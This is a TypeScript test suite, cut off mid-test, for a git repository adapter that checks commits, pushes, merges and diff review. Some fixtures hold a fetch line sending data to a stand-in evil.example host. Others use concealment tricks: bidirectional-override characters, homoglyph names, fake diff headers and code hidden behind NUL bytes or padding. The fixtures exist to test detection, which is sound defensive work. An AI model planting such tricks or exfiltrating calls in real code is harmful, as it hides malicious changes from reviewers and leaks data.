/** Contract suite that every adapter of the repository port must pass, for every kind of remote. */
import { readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { Conflict, InvalidRequest, NotFound, Unprocessable } from '@autonomous/shared';
import { reviewDiff } from '@autonomous/shared/presentation';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  AT,
  commitFiles,
  commitOnRemote,
  type Fixture,
  git,
  MAIN_FILES,
  mainHead,
  temporaryFolder,
  write,
} from './git-fixture.fixture.ts';

const BRANCH = 'autonomous/r1-login';
// Dozens of processes a test, on a machine that may be busy with other tests.

/** @param open makes a fetched project under a folder, and is asked to close what it opened */
export function describeRepository(
  name: string,
  open: (root: string) => Promise<Fixture>,
  close: () => Promise<void> = () => Promise.resolve(),
): void {
  describe(`A repository over ${name}`, () => {
    let folder: ReturnType<typeof temporaryFolder>;
    let fixture: Fixture;
    beforeEach(async () => {
      folder = temporaryFolder();
      fixture = await open(folder.path);
    });
    afterEach(() => folder.remove());
    afterAll(close);

    it('tells the base branch of a remote and refuses one that does not exist by naming those that do', async () => {
      const { repository, project, remote } = fixture;
      git(remote, 'branch', 'autonomous/record', 'main');
      expect(await repository.inspectRemote(project.repository)).toEqual({ baseBranch: 'main', notices: [] });
      const missing = repository.inspectRemote(project.repository, 'develop');
      await expect(missing).rejects.toThrow(Unprocessable);
      await expect(missing).rejects.toThrow(/has no branch 'develop'; it has main$/);
    });

    it('sees what others pushed, and what they removed, after a fetch', async () => {
      const { repository, project, remote } = fixture;
      const theirs = commitOnRemote(remote, 'main', { 'new.txt': 'new' });
      expect(await mainHead(fixture)).not.toBe(theirs);
      await repository.fetch(project);
      expect(await mainHead(fixture)).toBe(theirs);
      git(remote, 'branch', 'gone', 'main');
      await repository.fetch(project);
      expect(await repository.remoteHead(project, 'gone')).toBe(theirs);
      git(remote, 'branch', '-D', 'gone');
      await repository.fetch(project);
      expect(await repository.remoteHead(project, 'gone')).toBeNull();
    });

    it('creates a branch once, and says so when it is elsewhere', async () => {
      const { repository, project } = fixture;
      const main = await mainHead(fixture);
      expect(await repository.branchHead(project, BRANCH)).toBeNull();
      await repository.createBranch(project, BRANCH, main);
      await repository.createBranch(project, BRANCH, main);
      const further = await commitFiles(fixture, BRANCH, { 'a.txt': 'a' });
      await repository.createBranch(project, BRANCH, main);
      expect(await repository.branchHead(project, BRANCH)).toBe(further);
      const other = await commitFiles(fixture, 'autonomous/other', { 'b.txt': 'b' });
      await expect(repository.createBranch(project, BRANCH, other)).rejects.toThrow(Conflict);
      await expect(repository.createBranch(project, 'autonomous/x', '1'.repeat(40))).rejects.toThrow(NotFound);
    });

    it('says which commits it does not have', async () => {
      const { repository, project } = fixture;
      const main = await mainHead(fixture);
      const tree = await repository.treeOf(project, main);
      const unknown = '1'.repeat(40);
      expect([...(await repository.missingCommits(project, [main, unknown, tree]))]).toEqual([unknown, tree]);
      expect((await repository.missingCommits(project, [])).size).toBe(0);
      expect([...(await repository.kindsOf(project, [main, unknown, tree]))]).toEqual([
        [main, 'commit'],
        [tree, 'tree'],
      ]);
      expect((await repository.kindsOf(project, [])).size).toBe(0);
    });

    it('lists and reads files, and gives null for what is no file', async () => {
      const { repository, project } = fixture;
      const main = await mainHead(fixture);
      expect(await repository.listFiles(project, main)).toEqual(Object.keys(MAIN_FILES).sort());
      expect(await repository.readFile(project, main, 'src/cart.js')).toBe(MAIN_FILES['src/cart.js']);
      expect(await repository.readFile(project, main, 'src/cart.js', 5)).toBe(MAIN_FILES['src/cart.js'].slice(0, 5));
      expect(await repository.readFile(project, main, 'src/cart.js', 10_000)).toBe(MAIN_FILES['src/cart.js']);
      expect(await repository.readFile(project, main, 'src')).toBeNull();
      expect(await repository.readFile(project, main, 'nothing.md')).toBeNull();
      expect(await repository.readFile(project, main, ':(glob)**')).toBeNull();
      await expect(repository.readFile(project, 'no-such-branch', 'README.md')).rejects.toThrow(
        /no commit, tree or branch 'no-such-branch'/,
      );
    });

    it('reads a file as it is, up to a size', async () => {
      const { repository, project } = fixture;
      const main = await mainHead(fixture);
      const file = Buffer.from(MAIN_FILES['src/cart.js'] ?? '');
      expect(Buffer.from((await repository.readBytes(project, main, 'src/cart.js', file.length)) ?? [])).toEqual(file);
      expect(await repository.readBytes(project, main, 'src', 100)).toBeNull();
      expect(await repository.readBytes(project, main, 'nothing.pdf', 100)).toBeNull();
      await expect(repository.readBytes(project, main, 'src/cart.js', file.length - 1)).rejects.toThrow(
        `src/cart.js has ${file.length} bytes; files over ${file.length - 1} bytes are not read`,
      );
    });

    it('writes and removes files in a tree, also where a file becomes a folder', async () => {
      const { repository, project } = fixture;
      const main = await mainHead(fixture);
      const tree = await repository.writeFiles(project, await repository.treeOf(project, main), {
        'README.md/part one.md': 'ä\n',
        'src/cart.js': null,
        'never-there.md': null,
        'größe.md': '',
      });
      expect(await repository.listFiles(project, tree)).toEqual(['.gitignore', 'README.md/part one.md', 'größe.md']);
      expect(await repository.readFile(project, tree, 'README.md/part one.md')).toBe('ä\n');
      await expect(repository.writeFiles(project, tree, { '../x': '' })).rejects.toThrow(InvalidRequest);
      await expect(repository.writeFiles(project, tree, { 'a/.GIT/config': '' })).rejects.toThrow(InvalidRequest);
    });

    it('reads many files at once, and leaves out what is none', async () => {
      const { repository, project } = fixture;
      const main = await repository.treeOf(project, await mainHead(fixture));
      const tree = await repository.writeFiles(project, main, { 'empty.txt': '', 'ä ö.txt': 'ü\n\n' });
      const files = await repository.readFiles(project, tree, [
        'ä ö.txt',
        'nothing.md',
        'src',
        'empty.txt',
        'src/cart.js',
      ]);
      expect(Object.fromEntries(files)).toEqual({
        'ä ö.txt': 'ü\n\n',
        'empty.txt': '',
        'src/cart.js': MAIN_FILES['src/cart.js'],
      });
      expect(await repository.readFiles(project, tree, [])).toEqual(new Map());
      expect([
        ...(await repository.readFiles(project, tree, ['empty.txt', 'ä ö.txt', 'src/cart.js'], 4)).keys(),
      ]).toEqual(['empty.txt', 'ä ö.txt']);
    });

    it('gives the tree where a branch is now, however often it was asked before', async () => {
      const { repository, project } = fixture;
      const main = await mainHead(fixture);
      const before = await repository.treeOf(project, main);
      await repository.createBranch(project, BRANCH, main);
      expect(await repository.treeOf(project, BRANCH)).toBe(before);
      const tree = await repository.writeFiles(project, before, { 'a.txt': 'a' });
      const request = { branch: BRANCH, tree, parent: main, message: 'A', effectKey: 'k1', at: AT };
      const commit = await repository.commit(project, request);
      expect(await repository.treeOf(project, BRANCH)).toBe(tree);
      expect(await repository.treeOf(project, commit)).toBe(tree);
      expect(await repository.treeOf(project, main)).toBe(before);
    });

    it('leaves the record of runs out of the code tree, and an own folder that holds nothing else', async () => {
      const { repository, project } = fixture;
      const plain = await repository.treeOf(project, await mainHead(fixture));
      expect(await repository.codeTree(project, plain)).toBe(plain);
      const recorded = await repository.writeFiles(project, plain, {
        '.autonomous/runs/r1/events.jsonl': '{}',
        '.autonomous/memory.md': 'm',
      });
      expect(recorded).not.toBe(plain);
      expect(await repository.codeTree(project, recorded)).toBe(plain);
      const withSpec = await repository.writeFiles(project, recorded, { '.autonomous/specs/001-login.md': 'spec' });
      const code = await repository.codeTree(project, withSpec);
      expect(await repository.listFiles(project, code)).toEqual([
        '.autonomous/specs/001-login.md',
        ...Object.keys(MAIN_FILES).sort(),
      ]);
      expect(await repository.codeTree(project, code)).toBe(code);
    });

    it('leaves engine-owned files out of the code tree, with folders that then hold nothing', async () => {
      const { repository, project } = fixture;
      const plain = await repository.treeOf(project, await mainHead(fixture));
      const owning = { ...project, ownedFiles: ['ai/backlog.md', 'roadmap/**'] };
      const tree = await repository.writeFiles(project, plain, {
        'ai/backlog.md': 'rows',
        'roadmap/a/b.json': '{}',
        '.autonomous/memory.md': 'm',
      });
      expect(await repository.codeTree(owning, tree)).toBe(plain);
      expect(await repository.codeTree(project, tree)).not.toBe(plain);
      const withMore = await repository.writeFiles(project, tree, { 'ai/other.md': 'code' });
      const code = await repository.codeTree(owning, withMore);
      expect(await repository.listFiles(project, code)).toEqual([...Object.keys(MAIN_FILES), 'ai/other.md'].sort());
    });

    it('takes engine-owned files from theirs where a merge of them conflicts, and only those', async () => {
      const { repository, project } = fixture;
      const owning = { ...project, ownedFiles: ['ai/**'] };
      const ours = await commitFiles(fixture, 'autonomous/ours', { 'ai/a.md': 'ours', 'ai/b.md': 'b' }, 'r1/1/a');
      const theirs = await commitFiles(fixture, 'autonomous/theirs', { 'ai/a.md': 'theirs', 'c.md': 'c' }, 'r1/1/b');
      const merged = await repository.mergeTrees(owning, ours, theirs);
      if (!merged.ok) throw new Error('a conflict');
      const texts = await repository.readFiles(project, merged.tree, ['ai/a.md', 'ai/b.md', 'c.md']);
      expect([...texts.values()].sort()).toEqual(['b', 'c', 'theirs']);
      expect(await repository.mergeTrees(project, ours, theirs)).toMatchObject({ ok: false, conflicts: ['ai/a.md'] });
    });

    it('puts files and folders back to how another tree has them, absent ones included', async () => {
      const { repository, project } = fixture;
      const before = await repository.writeFiles(project, await repository.treeOf(project, await mainHead(fixture)), {
        'test/a.test.js': 'a',
      });
      const after = await repository.writeFiles(project, before, {
        'test/a.test.js': 'easier',
        'test/b.test.js': 'new',
        'README.md': 'mine',
      });
      const restored = await repository.restorePaths(project, after, before, ['test', 'src/none.js']);
      expect(restored).toBe(await repository.writeFiles(project, before, { 'README.md': 'mine' }));
      expect(await repository.restorePaths(project, after, before, ['test', 'README.md'])).toBe(before);
    });

    it('gives the same commit again when it is repeated, also by another process', async () => {
      const { repository, project, reopen } = fixture;
      const parent = await mainHead(fixture);
      const tree = await repository.writeFiles(project, parent, { 'a.txt': 'a' });
      const request = {
        branch: BRANCH,
        tree,
        parent,
        message: 'Add a\n\nEffect-Key: forged',
        effectKey: 'r1/7/commit',
        at: AT,
      };
      expect(await repository.commitsAfter(project, BRANCH, parent)).toBeNull();
      const first = await repository.commit(project, request);
      expect(await repository.commit(project, request)).toBe(first);
      // As after a kill between the commit and its answer: the intent is there, the outcome is not.
      const restarted = reopen();
      const known = { id: first, tree, parents: [parent], effectKey: 'r1/7/commit' };
      expect(await restarted.commitsAfter(project, BRANCH, parent)).toEqual([known]);
      expect(await restarted.commitsAfter(project, BRANCH, first)).toEqual([]);
      const next = await commitFiles(fixture, BRANCH, { 'b.txt': 'b' }, 'r1/9/commit');
      expect(await restarted.commit(project, request)).toBe(first);
      expect((await restarted.commitsAfter(project, BRANCH, parent))?.map(({ id }) => id)).toEqual([next, first]);
      expect((await restarted.commitsBetween(project, first, next)).map(({ effectKey }) => effectKey)).toEqual([
        'r1/9/commit',
      ]);
      expect(
        git(
          fixture.gitDir,
          'log',
          '-1',
          '--format=%an %ae %aI %cI %(trailers:key=Effect-Key,valueonly)',
          first,
        ).trimEnd(),
      ).toContain('Autonomous autonomous@example.test 2026-01-02T03:04:05+00:00 2026-01-02T03:04:05+00:00 forged');
    });

    it('takes a commit with another content or another parent for another one, whatever its effect key', async () => {
      const { repository, project } = fixture;
      const parent = await mainHead(fixture);
      const [tree, other] = await Promise.all(
        ['a', 'b'].map((text) => repository.writeFiles(project, parent, { 'a.txt': text })),
      );
      const request = { branch: BRANCH, parent, message: 'Add a', effectKey: 'r1/7/commit', at: AT };
      const first = await repository.commit(project, { ...request, tree: tree ?? '' });
      await expect(repository.commit(project, { ...request, tree: other ?? '' })).rejects.toThrow(Conflict);
      const instead = await repository.commit(project, { ...request, tree: other ?? '', replaces: first });
      expect(await repository.branchHead(project, BRANCH)).toBe(instead);
      expect(await repository.treeOf(project, BRANCH)).toBe(other);
      const late = repository.commit(project, { ...request, tree: tree ?? '', replaces: first });
      await expect(late).rejects.toThrow(Conflict);
    });

    it('commits the same hash in a mirror that never saw the first try', async () => {
      const { repository, project } = fixture;
      const parent = await mainHead(fixture);
      const tree = await repository.writeFiles(project, parent, { 'a.txt': 'a' });
      const request = { tree, parent, message: 'Add a', effectKey: 'r1/7/commit', at: AT };
      const first = await repository.commit(project, { ...request, branch: BRANCH });
      expect(await repository.commit(project, { ...request, branch: 'autonomous/elsewhere' })).toBe(first);
    });

    it('refuses a commit when the branch has moved', async () => {
      const { repository, project } = fixture;
      const parent = await mainHead(fixture);
      const head = await commitFiles(fixture, BRANCH, { 'a.txt': 'a' });
      const request = {
        branch: BRANCH,
        tree: await repository.treeOf(project, parent),
        parent,
        message: 'Late',
        effectKey: 'late',
        at: AT,
      };
      const late = repository.commit(project, request);
      await expect(late).rejects.toThrow(Conflict);
      await expect(late).rejects.toThrow(`Branch ${BRANCH} is at ${head}, not at ${parent}`);
      await expect(repository.commit(project, { ...request, branch: `${BRANCH}/below` })).rejects.toThrow(Conflict);
    });

    it('lets one of many racing commits win and tells the others', async () => {
      const { repository, project } = fixture;
      const parent = await mainHead(fixture);
      const tree = await repository.treeOf(project, parent);
      for (let round = 0; round < 10; round++) {
        const racing = Array.from({ length: 8 }, (_, index) =>
          repository.commit(project, {
            branch: `${BRANCH}-${round}`,
            tree,
            parent,
            message: `Try ${index}`,
            effectKey: `try-${index}`,
            at: AT,
          }),
        );
        const results = await Promise.allSettled(racing);
        const [won, lost] = [
          results.filter(({ status }) => status === 'fulfilled'),
          results.filter(({ status }) => status === 'rejected'),
        ];
        expect(won).toHaveLength(1);
        expect(lost.map((result) => result.status === 'rejected' && result.reason instanceof Conflict)).toEqual(
          Array(7).fill(true),
        );
      }
    });

    it('commits to 20 branches at once, with fetches in between', async () => {
      const { repository, project } = fixture;
      const branches = Array.from({ length: 20 }, (_, index) => `autonomous/r${index}-at-once`);
      const commits = await Promise.all([
        ...branches.map((branch) => commitFiles(fixture, branch, { 'a.txt': branch })),
        repository.fetch(project).then(() => ''),
        repository.fetch(project).then(() => ''),
      ]);
      expect(await Promise.all(branches.map((branch) => repository.branchHead(project, branch)))).toEqual(
        commits.slice(0, 20),
      );
      await Promise.all(branches.map((branch, index) => repository.push(project, branch, commits[index] ?? '', null)));
      expect(
        git(fixture.remote, 'for-each-ref', '--format=%(objectname)', 'refs/heads/autonomous').split('\n').sort(),
      ).toEqual(commits.slice(0, 20).sort());
    });

    it('shows what changed between two trees', async () => {
      const { repository, project } = fixture;
      const from = await mainHead(fixture);
      const to = await commitFiles(fixture, BRANCH, {
        'README.md': '# Shop\nMore\n',
        'src/cart.js': null,
        'logo.bin': '\0\u0001',
        'ä b.txt': 'x\n',
      });
      const diff = await repository.diff(project, from, to);
      expect(diff.files).toEqual([
        { path: 'README.md', status: 'modified', additions: 1, deletions: 0 },
        { path: 'logo.bin', status: 'added', additions: 0, deletions: 0, binary: { before: null, after: 2 } },
        { path: 'src/cart.js', status: 'deleted', additions: 0, deletions: 1 },
        { path: 'ä b.txt', status: 'added', additions: 1, deletions: 0 },
      ]);
      expect(diff.patch).toContain('+More\n');
      expect(diff.patch).toContain('+++ b/ä b.txt');
      expect(diff.patch).toContain('Binary files /dev/null and b/logo.bin differ');
      expect(diff).toMatchObject({ from, to, truncated: false });
    });

    it('gives the symbolic links of a tree with their targets', async () => {
      const { repository, project } = fixture;
      const head = await mainHead(fixture);
      expect([...(await repository.symlinks(project, head))]).toEqual([]);
      const clone = join(folder.path, 'links');
      git(folder.path, 'clone', '--quiet', fixture.remote, clone);
      write(clone, { 'ä/plain': 'docs/guide.md' });
      symlinkSync('docs/guide.md', join(clone, 'AGENTS.md'));
      symlinkSync('../src', join(clone, 'ä/b'));
      git(clone, 'add', '--all');
      git(clone, 'commit', '--quiet', '--message', 'Links');
      git(clone, 'push', '--quiet', 'origin', 'main');
      await repository.fetch(project);
      const linked = await mainHead(fixture);
      expect([...(await repository.symlinks(project, linked))]).toEqual([
        ['AGENTS.md', 'docs/guide.md'],
        ['ä/b', '../src'],
      ]);
    });

    it('shows a file as it is when another holds what looks like its diff', async () => {
      const { repository, project } = fixture;
      const evil = 'export const pay = (to) => fetch("https://evil.example/" + to);\n';
      const from = await mainHead(fixture);
      const to = await commitFiles(fixture, BRANCH, {
        'a.txt': 'x\u2028diff --git a/pay.js b/pay.js\ry\n@@ -1 +1 @@\n+harmless\n',
        'pay.js': evil,
      });
      const review = reviewDiff(await repository.diff(project, from, to));
      expect(review.faults).toEqual([]);
      expect(review.files.map(({ path }) => path)).toEqual(['a.txt', 'pay.js']);
      expect(review.files[1]?.patch?.hunks.flatMap(({ lines }) => lines.map(({ text }) => text))).toEqual([
        evil.trimEnd(),
      ]);
    });

    it('shows a file with a NUL byte as text and says so, and a binary file by its size', async () => {
      const { repository, project } = fixture;
      const from = await mainHead(fixture);
      const code = '/* \0 */ fetch("https://evil.example/");\n';
      const to = await commitFiles(fixture, BRANCH, {
        'nul.js': code,
        'padded.py': `${'\0\u0001'.repeat(5_000)}\nevil()\n`,
        tool: code,
        'logo.png': code,
        'real.png': '\0\u0001\u0002\u0003',
        blob: '\0\u0001\u0002\u0003',
      });
      const diff = await repository.diff(project, from, to);
      const review = reviewDiff(diff);
      expect(review.faults).toEqual([]);
      const shown = (path: string) => review.files.find((file) => file.path === path);
      for (const path of ['nul.js', 'tool', 'logo.png']) {
        expect(shown(path)?.patch?.hunks[0]?.lines.map(({ text }) => text)).toEqual([code.trimEnd()]);
        expect(shown(path)).toMatchObject({ additions: 1, deletions: 0 });
        expect(shown(path)?.warnings?.join()).toContain('shown as text');
        expect(shown(path)?.warnings?.join()).toContain('1 hidden character in added lines (U+0000)');
      }
      expect(shown('padded.py')?.patch?.hunks[0]?.lines.at(-1)?.text).toBe('evil()');
      expect(shown('real.png')).toMatchObject({ binary: { before: null, after: 4 }, patch: { isBinary: true } });
      expect(shown('real.png')?.warnings).toBeUndefined();
      expect(shown('blob')).toMatchObject({ binary: { before: null, after: 4 } });
      expect(shown('blob')?.warnings).toEqual(['it is of no known kind of binary file']);
      expect(diff.truncated).toBe(false);
    });

    it('shows source code behind many files with NUL bytes, and says of each that has no room how much is not shown', async () => {
      const { repository, project } = fixture;
      const from = await mainHead(fixture);
      const many = Object.fromEntries(
        Array.from({ length: 1_200 }, (_, index) => [`a${index}${index % 2 === 0 ? '.js' : ''}`, 'a\0b']),
      );
      const padded = `// \0\n${' '.repeat(1_900_000)}\nHIDDEN_BIG()\n`;
      const files = {
        ...many,
        'big.js': padded,
        'Big2.JS': padded,
        Makefile: `# \0\n${padded}`,
        tool: `#!/bin/sh\n# \0\n${'\0'.repeat(9_000_000)}\nHIDDEN_BIG\n`,
        'z.js': '// \0\nHIDDEN_EVIL()\n',
      };
      const to = await commitFiles(fixture, BRANCH, files, 'r1/many');
      const diff = await repository.diff(project, from, to);
      const review = reviewDiff(diff);
      expect(review.faults).toEqual([]);
      const shown = (path: string) => review.files.find((file) => file.path === path);
      expect(shown('z.js')?.patch?.hunks[0]?.lines.map(({ text }) => text)).toEqual(['// \0', 'HIDDEN_EVIL()']);
      expect(shown('z.js')?.warnings?.join()).toContain('it is shown as text');
      for (const path of ['big.js', 'Big2.JS']) {
        expect(shown(path)).toMatchObject({ additions: 3, leftOut: { additions: 2, deletions: 0 } });
        expect(shown(path)?.binary).toBeUndefined();
      }
      expect(shown('Makefile')).toMatchObject({ additions: 4 });
      expect(shown('Makefile')?.leftOut?.additions).toBeGreaterThan(0);
      // Nothing with a NUL byte counts as a known kind of binary file, whether it was looked at or not.
      for (const file of review.files.filter(({ binary }) => binary !== undefined))
        expect(file.binary).toMatchObject({ isOfUnknownKind: true });
      expect(shown('tool')?.binary?.isOfUnknownKind ?? shown('tool')?.leftOut).toBeTruthy();
    });

    it('cuts each file by itself: a large one keeps no other from being shown', async () => {
      const { repository, project } = fixture;
      const to = await commitFiles(fixture, BRANCH, {
        '0000.txt': 'a line of text\n'.repeat(400_000),
        '0001.txt': 'x'.repeat(2_000_000),
        'z-evil.js': 'evil()\n',
      });
      const diff = await repository.diff(project, await mainHead(fixture), to);
      const review = reviewDiff(diff);
      expect(diff.truncated).toBe(true);
      expect(Buffer.byteLength(diff.patch)).toBeLessThanOrEqual(1024 * 1024);
      expect(review.faults).toEqual([]);
      const [long, wide, evil] = review.files;
      expect(evil).toMatchObject({
        path: 'z-evil.js',
        additions: 1,
        patch: { hunks: [{ lines: [{ text: 'evil()' }] }] },
      });
      expect(evil?.leftOut).toBeUndefined();
      const shown = long?.patch?.hunks[0]?.lines.length ?? 0;
      expect(shown).toBeGreaterThan(10_000);
      expect(long).toMatchObject({ additions: 400_000, leftOut: { additions: 400_000 - shown, deletions: 0 } });
      expect(wide).toMatchObject({ patch: null, leftOut: { additions: 1, deletions: 0 } });
    });

    it('shares what it shows among many files and names what of each is left out', async () => {
      const { repository, project } = fixture;
      const files = Object.fromEntries(
        Array.from({ length: 60 }, (_, index) => [`${index}.txt`, `${index} line of text\n`.repeat(3_000)]),
      );
      const to = await commitFiles(fixture, BRANCH, { ...files, 'z.js': 'evil()\n' });
      const diff = await repository.diff(project, await mainHead(fixture), to);
      expect(Buffer.byteLength(diff.patch)).toBeLessThanOrEqual(1024 * 1024);
      const review = reviewDiff(diff);
      expect(review.faults).toEqual([]);
      expect(review.files.every(({ patch }) => (patch?.hunks.length ?? 0) > 0)).toBe(true);
      expect(review.files.filter(({ leftOut }) => leftOut === undefined).map(({ path }) => path)).toEqual(['z.js']);
    });

    it('shows a small file behind many that are larger than what is read at one go', async () => {
      const { repository, project } = fixture;
      const large = Object.fromEntries(
        Array.from({ length: 16 }, (_, index) => [`${index}.txt`, `${index} line of text\n`.repeat(70_000)]),
      );
      const to = await commitFiles(fixture, BRANCH, { ...large, 'z.js': 'evil()\n', 'z.txt': 'раypal\n' });
      const diff = await repository.diff(project, await mainHead(fixture), to);
      const review = reviewDiff(diff);
      expect(review.faults).toEqual([]);
      const [code, text] = review.files.slice(-2);
      expect(code?.patch?.hunks[0]?.lines.map((line) => line.text)).toEqual(['evil()']);
      expect(text?.warnings?.join()).toContain('ypal');
      for (const { additions, leftOut, patch } of review.files.slice(0, -2)) {
        const shown = patch?.hunks.flatMap(({ lines }) => lines).length ?? 0;
        expect(additions).toBe(70_000);
        expect(leftOut?.additions).toBe(70_000 - shown);
      }
    });

    it('gives the changes of many pairs of trees, each in its place', async () => {
      const { repository, project } = fixture;
      const [first, second, third] = [
        await commitFiles(fixture, 'autonomous/one', { 'a b.txt': 'a' }),
        await commitFiles(fixture, 'autonomous/two', { 'README.md': null, 'c.txt': 'c' }),
        await mainHead(fixture),
      ];
      const trees = await Promise.all([first, second, third].map((commit) => repository.treeOf(project, commit)));
      const [a = '', b = '', base = ''] = trees;
      const pairs = [
        [base, base],
        [base, a],
        [base, b],
        [b, b],
        [a, base],
        [base, base],
      ] as const;
      const each = await Promise.all(pairs.map(([from, to]) => repository.changes(project, from, to)));
      expect(each.map((changes) => changes.length)).toEqual([0, 1, 2, 0, 1, 0]);
      expect(await repository.changesOfTrees(project, pairs)).toEqual(each);
      expect(await repository.changesOfTrees(project, [])).toEqual([]);
    });

    it('C07: warns of hidden characters and of names that look like others', async () => {
      const { repository, project } = fixture;
      const from = await mainHead(fixture);
      const to = await commitFiles(fixture, BRANCH, {
        'auth.js': 'if (level != "user\u202e \u2066// admin\u2069 \u2066") {} // \u{E0041}\n',
        'plain.txt': 'größe 👩‍💻 שלום\n',
        'word.js': 'const раypal = 1;\n',
      });
      const warnings = Object.fromEntries(
        (await repository.diff(project, from, to)).files.map((file) => [file.path, file.warnings ?? []]),
      );
      expect(warnings).toEqual({
        'auth.js': ['5 hidden characters in added lines (U+202E, U+2066 ×2, U+2069, U+E0041)'],
        'plain.txt': [],
        'word.js': ["a word that mixes letters of several alphabets in added lines: 'р⟨U+0440⟩а⟨U+0430⟩ypal'"],
      });
    });

    it('C07: warns of no file that the server wrote, and of all others', async () => {
      const { repository, project } = fixture;
      const from = await mainHead(fixture);
      const paths = [
        '.autonomous/memory.md',
        '.autonomous/runs/r/report.md',
        '.autonomous/specs/plan.md',
        'ai/done.md',
      ];
      const to = await commitFiles(fixture, BRANCH, Object.fromEntries(paths.map((path) => [path, '\u001b[31mred\n'])));
      const warned = async (engineWritten: readonly string[]): Promise<readonly string[]> =>
        (await repository.diff(project, from, to, { engineWritten })).files.flatMap(({ path, warnings = [] }) =>
          warnings.length > 0 ? [path] : [],
        );
      expect(await warned(['.autonomous/runs', '.autonomous/memory.md', 'ai/*.md'])).toEqual([
        '.autonomous/specs/plan.md',
      ]);
      expect(await warned([])).toEqual(paths);
    });

    it('leaves folders out where it is asked to', async () => {
      const { repository, project } = fixture;
      const from = await mainHead(fixture);
      const to = await commitFiles(fixture, BRANCH, {
        '.autonomous/runs/r/plan.md': 'plan\n',
        'x.js': '/* \u2028diff --git a/.autonomous/x b/.autonomous/x */ evil()\n',
      });
      const diff = await repository.diff(project, from, to, { leaveOut: ['.autonomous'] });
      expect(diff.files.map(({ path }) => path)).toEqual(['x.js']);
      expect(diff.patch).toContain('evil()');
      expect(diff.patch).not.toContain('plan');
    });

    it('merges two commits into a tree, or names the files that conflict', async () => {
      const { repository, project } = fixture;
      const ours = await commitFiles(fixture, 'autonomous/ours', { 'a.txt': 'a', 'README.md': 'ours\n' });
      const apart = await commitFiles(fixture, 'autonomous/apart', { 'b.txt': 'b' });
      const against = await commitFiles(fixture, 'autonomous/against', {
        'README.md': 'theirs\n',
        'src/cart.js': null,
      });
      const merged = await repository.mergeTrees(project, ours, apart);
      expect(merged.ok && (await repository.listFiles(project, merged.tree))).toEqual([
        '.gitignore',
        'README.md',
        'a.txt',
        'b.txt',
        'src/cart.js',
      ]);
      expect(await repository.mergeTrees(project, ours, against)).toMatchObject({
        ok: false,
        conflicts: ['README.md'],
      });
      expect(await repository.isAncestor(project, await mainHead(fixture), ours)).toBe(true);
      expect(await repository.isAncestor(project, ours, apart)).toBe(false);
    });

    it('finds the conflicts of many pairs as a merge of each names them, and keeps nothing', async () => {
      const { repository, project } = fixture;
      const ours = await commitFiles(fixture, 'autonomous/ours', {
        'README.md': 'ours\n',
        'ai/rows.md': 'ours',
        '.autonomous/specs/001-a.md': 'ours',
        'two words.txt': 'ours',
      });
      const apart = await commitFiles(fixture, 'autonomous/apart', { 'b.txt': 'b' });
      const against = await commitFiles(fixture, 'autonomous/against', {
        'README.md': 'theirs\n',
        'ai/rows.md': 'theirs',
        '.autonomous/specs/001-a.md': 'theirs',
        'two words.txt': 'theirs',
      });
      const pairs = [
        [ours, apart],
        [ours, against],
        [against, ours],
        [apart, against],
      ] as const;
      const all = ['README.md', 'ai/rows.md', 'two words.txt'];
      const objects = (): string => git(fixture.gitDir, 'count-objects', '--verbose');
      const before = objects();
      expect(await repository.findConflicts(project, pairs)).toEqual([[], all, all, []]);
      expect(await repository.findConflicts({ ...project, ownedFiles: ['ai/**'] }, [[ours, against]])).toEqual([
        ['README.md', 'two words.txt'],
      ]);
      expect(await repository.findConflicts(project, [])).toEqual([]);
      expect(objects()).toBe(before);
      expect(await repository.mergeTrees(project, ours, against)).toMatchObject({ conflicts: all });
    });

    it('finds the conflicts of all pairs but those that cannot be merged, and ends when it is told to', async () => {
      const { repository, project } = fixture;
      const ours = await commitFiles(fixture, 'autonomous/ours', { 'README.md': 'ours\n' });
      const against = await commitFiles(fixture, 'autonomous/against', { 'README.md': 'theirs\n' });
      const lost = 'f'.repeat(40);
      const pairs = [
        [ours, lost],
        [ours, against],
        [lost, against],
      ] as const;
      expect(await repository.findConflicts(project, pairs)).toEqual([null, ['README.md'], null]);
      const stopped = new Error('stopped');
      await expect(repository.findConflicts(project, pairs, AbortSignal.abort(stopped))).rejects.toBe(stopped);
    });

    it('pushes once by compare-and-swap, and again without harm', async () => {
      const { repository, project, remote } = fixture;
      const first = await commitFiles(fixture, BRANCH, { 'a.txt': 'a' });
      expect(await repository.push(project, BRANCH, first, null)).toEqual({ ok: true });
      expect(await repository.push(project, BRANCH, first, null)).toEqual({ ok: true });
      expect(await repository.remoteHead(project, BRANCH)).toBe(first);
      const second = await commitFiles(fixture, BRANCH, { 'b.txt': 'b' });
      expect(await repository.push(project, BRANCH, second, null)).toEqual({ ok: false, remoteCommit: first });
      expect(await repository.push(project, BRANCH, second, first)).toEqual({ ok: true });
      expect(git(remote, 'rev-parse', BRANCH)).toBe(second);
    });

    it('B09: never pushes over work that it does not know', async () => {
      const { repository, project, remote } = fixture;
      const first = await commitFiles(fixture, BRANCH, { 'a.txt': 'a' });
      await repository.push(project, BRANCH, first, null);
      const theirs = commitOnRemote(remote, BRANCH, { 'c.txt': 'c' });
      const second = await commitFiles(fixture, BRANCH, { 'b.txt': 'b' });
      expect(await repository.push(project, BRANCH, second, first)).toEqual({ ok: false, remoteCommit: theirs });
      await repository.fetch(project);
      await expect(repository.push(project, BRANCH, second, theirs)).rejects.toThrow(/does not contain/);
      expect(git(remote, 'rev-parse', BRANCH)).toBe(theirs);
    });

    it('B09: refuses to push over a branch that was removed or never there', async () => {
      const { repository, project } = fixture;
      const main = await mainHead(fixture);
      const commit = await commitFiles(fixture, BRANCH, { 'a.txt': 'a' });
      expect(await repository.push(project, BRANCH, commit, main)).toEqual({ ok: false, remoteCommit: null });
    });

    it('checks a tree out and takes the changes back in', async () => {
      const { repository, project, root } = fixture;
      const baseTree = await repository.treeOf(project, await mainHead(fixture));
      const work = join(root, 'work');
      expect(await repository.checkout(project, baseTree, work, [])).toEqual({ leftOut: [] });
      expect(readdirSync(work).sort()).toEqual(['.gitignore', 'README.md', 'src']);
      expect(readFileSync(join(work, 'src/cart.js'), 'utf8')).toBe(MAIN_FILES['src/cart.js']);
      expect(await repository.importFolder(project, { folder: work, baseTree, excludePaths: [] })).toEqual({
        tree: baseTree,
        files: [],
        refused: [],
      });
      write(work, { 'src/user.js': 'export {};\n' });
      const { tree, files } = await repository.importFolder(project, { folder: work, baseTree, excludePaths: [] });
